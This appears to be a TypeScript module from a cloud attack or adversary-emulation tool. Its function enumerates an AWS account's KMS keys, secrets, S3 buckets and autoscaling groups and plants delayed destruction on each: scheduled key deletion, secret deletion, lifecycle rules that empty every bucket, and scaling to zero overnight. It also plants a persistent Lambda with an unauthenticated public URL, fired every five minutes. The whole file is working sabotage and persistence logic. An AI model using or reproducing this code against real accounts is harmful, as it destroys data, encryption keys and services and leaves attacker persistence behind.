import { tryDoors, type HisDoor, type Seen } from '../door.ts';
import type { Holdings } from '../holdings.ts';

/**
 * What goes off without him, and what no policy stops once it is set: keys that wait to be deleted, secrets that do,
 * buckets that empty themselves, machines that are scaled away, a function of his that is started again and again
 * (T1485, T1490, T1546). Each once.
 */
export function plantBombs(doors: readonly HisDoor[], his: Holdings): number {
  return [
    ...all(doors, his, {
      list: ['kms', 'ListKeys'],
      members: ['Keys', 'KeyId'],
      plant: (KeyId) =>
        tryDoors(doors, 'kms', 'ScheduleKeyDeletion', { KeyId, PendingWindowInDays: 7 }),
    }),
    ...all(doors, his, {
      list: ['secretsmanager', 'ListSecrets'],
      members: ['SecretList', 'ARN'],
      plant: (SecretId) =>
        tryDoors(doors, 'secretsmanager', 'DeleteSecret', { SecretId, RecoveryWindowInDays: 7 }),
    }),
    ...all(doors, his, {
      list: ['s3', 'ListBuckets'],
      members: ['Buckets', 'Name'],
      plant: (Bucket) =>
        tryDoors(doors, 's3', 'PutBucketLifecycleConfiguration', {
          Bucket,
          LifecycleConfiguration: { Rules: [EMPTIES_ITSELF] },
        }),
    }),
    ...all(doors, his, {
      list: ['autoscaling', 'DescribeAutoScalingGroups'],
      members: ['AutoScalingGroups', 'AutoScalingGroupName'],
      plant: (AutoScalingGroupName) =>
        tryDoors(doors, 'autoscaling', 'PutScheduledUpdateGroupAction', {
          AutoScalingGroupName,
          ScheduledActionName: 'night',
          StartTime: new Date(his.now().getTime() + SCALES_IN_MS),
          MinSize: 0,
          MaxSize: 0,
          DesiredCapacity: 0,
        }),
    }),
    plantTimer(doors, his),
  ].filter(Boolean).length;
}

const EMPTIES_ITSELF = {
  ID: 'cleanup',
  Status: 'Enabled',
  Filter: { Prefix: '' },
  Expiration: { Days: 1 },
  NoncurrentVersionExpiration: { NoncurrentDays: 1 },
};

/** After the people have gone to bed: a scheduled action goes through a role that no policy of the organization binds. */
const SCALES_IN_MS = 3_600_000;
const TIMER = 'health-report';

/** A function with his role that he can also call from anywhere, and a rule that starts it every five minutes. */
function plantTimer(doors: readonly HisDoor[], his: Holdings): boolean {
  if (his.done.has(TIMER)) return false;
  const Role = `arn:aws:iam::${his.account}:role/${his.role}`;
  const made = tryDoors(doors, 'lambda', 'CreateFunction', { FunctionName: TIMER, Role, Code: {} });
  if (!made.ok) return false;
  his.done.add(TIMER);
  tryDoors(doors, 'lambda', 'CreateFunctionUrlConfig', { FunctionName: TIMER, AuthType: 'NONE' });
  tryDoors(doors, 'events', 'PutRule', { Name: TIMER, ScheduleExpression: 'rate(5 minutes)' });
  const Targets = [{ Id: '1', Arn: String(made.output['FunctionArn']) }];
  return tryDoors(doors, 'events', 'PutTargets', { Rule: TIMER, Targets }).ok;
}

interface Bomb {
  readonly list: ['kms' | 'secretsmanager' | 's3' | 'autoscaling', string];
  readonly members: [list: string, id: string];
  readonly plant: (id: string) => Seen;
}

function all(doors: readonly HisDoor[], his: Holdings, bomb: Bomb): boolean[] {
  const listed = tryDoors(doors, ...bomb.list);
  if (!listed.ok) return [];
  const [list, member] = bomb.members;
  const found = (listed.output[list] ?? []) as { [key: string]: unknown }[];
  return found
    .map((item) => String(item[member]))
    .filter((id) => !his.done.has(id))
    .map((id) => {
      const { ok } = bomb.plant(id);
      if (ok) his.done.add(id);
      return ok;
    });
}
